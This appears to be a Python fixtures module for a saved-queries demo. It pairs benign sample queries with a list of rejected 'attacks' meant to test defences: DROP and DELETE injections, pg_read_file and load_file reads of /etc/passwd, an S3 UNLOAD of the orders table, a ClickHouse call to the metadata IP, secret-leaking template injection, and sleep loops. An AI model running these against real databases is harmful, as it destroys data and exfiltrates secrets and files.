"""What the demo of saved queries runs, and what it tries in vain: one line a statement."""

from dataclasses import dataclass, field
from typing import Final, Literal

Target = Literal["postgres", "mysql", "redshift", "elasticsearch", "clickhouse", "internal"]


@dataclass(frozen=True, slots=True)
class Sample:
    """A query of the demo; `where` is the key of its secret, `internal` the tenant's own schema."""

    where: Target
    name: str
    text: str
    params: dict[str, object] = field(default_factory=dict)


@dataclass(frozen=True, slots=True)
class Attack:
    """A text that must not be saved, or, with `params`, one that must not be run with them."""

    where: Target
    text: str
    params: dict[str, object] | None = None


_SALES: Final = "SELECT id, region, amount, sold_at FROM sales WHERE status = '{{ status }}' ORDER BY id"
_SEARCH: Final = """{"_source": ["region", "amount", "customer.name"], "query": {"term": {"status": "{{ status }}"}},
    "sort": [{"amount": "desc"}], "size": 10}"""
_BUCKETS: Final = """{"size": 0, "aggs": {"by_region": {"terms": {"field": "region"},
    "aggs": {"sum_amount": {"sum": {"field": "amount"}}}}}}"""

SAMPLES: Final = (
    Sample(
        "postgres",
        "Revenue by status",
        "SELECT status, count(*) AS orders, sum(total) AS revenue FROM orders"
        " WHERE ordered_at > '{{ since }}' AND status IN ({{ statuses }}) GROUP BY status ORDER BY revenue DESC",
        {"since": "2026-02-03", "statuses": ["paid", "open"]},
    ),
    Sample(
        "postgres",
        "Who asks",
        "SELECT name, email FROM customers WHERE country = '{{ country }}'"
        " AND '{{ secret.user_profile.username }}' = 'demo' ORDER BY id LIMIT {{ n }}",
        {"country": "FR", "n": 3},
    ),
    Sample(
        "postgres",
        "A value stays a value",
        "SELECT count(*) AS found FROM customers WHERE country = '{{ country }}'",
        {"country": "' OR '1'='1"},
    ),
    Sample("mysql", "Sales of MariaDB", _SALES, {"status": "open"}),
    Sample(
        "redshift",
        "Campaigns by Redshift's dialect",
        "SELECT channel, count(*) AS campaigns, coalesce(sum(budget), 0) AS budget FROM marketing.campaigns"
        " WHERE channel <> '{{ channel }}' GROUP BY channel ORDER BY channel",
        {"channel": "mail"},
    ),
    Sample("clickhouse", "Sales of ClickHouse", _SALES, {"status": "open"}),
    Sample("elasticsearch", "Paid sales of OpenSearch", _SEARCH, {"status": "paid"}),
    Sample("elasticsearch", "Sales by region of OpenSearch", _BUCKETS),
    Sample(
        "internal",
        "Saved queries of this tenant",
        "SELECT slug, connection_type, version FROM saved_query WHERE name <> '{{ hidden }}' ORDER BY slug",
        {"hidden": "Revenue by status"},
    ),
)

ATTACKS: Final = (
    Attack("postgres", "DROP TABLE orders"),
    Attack("postgres", "SELECT 1; DELETE FROM orders"),
    Attack("postgres", "WITH gone AS (DELETE FROM orders RETURNING id) SELECT * FROM gone"),
    Attack("postgres", "SELECT * INTO copied FROM orders"),
    Attack("postgres", "SELECT * FROM orders FOR UPDATE"),
    Attack("postgres", "SELECT pg_sleep(60)"),
    Attack("postgres", 'SELECT "pg_catalog"."pg_read_file"(\'/etc/passwd\')'),
    Attack("postgres", "SELECT query_to_xml('DELETE FROM orders', true, true, '')"),
    Attack("postgres", "SELECT set_config('transaction_read_only', 'off', false)"),
    Attack("postgres", "SELECT '{{ secret.api.token }}' AS token"),
    Attack("postgres", "SELECT {{ ''.__class__.__mro__ }}"),
    Attack("postgres", "SELECT id FROM orders WHERE status = '{{ status }}'", {"status": "{{ secret.api.token }}"}),
    Attack("mysql", "SELECT * FROM sales INTO OUTFILE '/tmp/sales'"),
    Attack("mysql", "SELECT /*!50000 sleep(9) */ 1"),
    Attack("mysql", "SELECT load_file('/etc/passwd')"),
    Attack("redshift", "UNLOAD ('SELECT * FROM orders') TO 's3://bucket/'"),
    Attack("elasticsearch", '{"query": {"script": {"script": "while (true) {}"}}}'),
    Attack("elasticsearch", '{"runtime_mappings": {"x": {"type": "long"}}, "query": {"match_all": {}}}'),
    Attack("clickhouse", "SELECT * FROM url('http://169.254.169.254/', 'CSV')"),
    Attack("clickhouse", "SELECT 1 SETTINGS readonly = 0"),
    Attack("internal", "SELECT * FROM gateway.connector"),
    Attack("internal", "SELECT rolname FROM pg_catalog.pg_roles"),
)
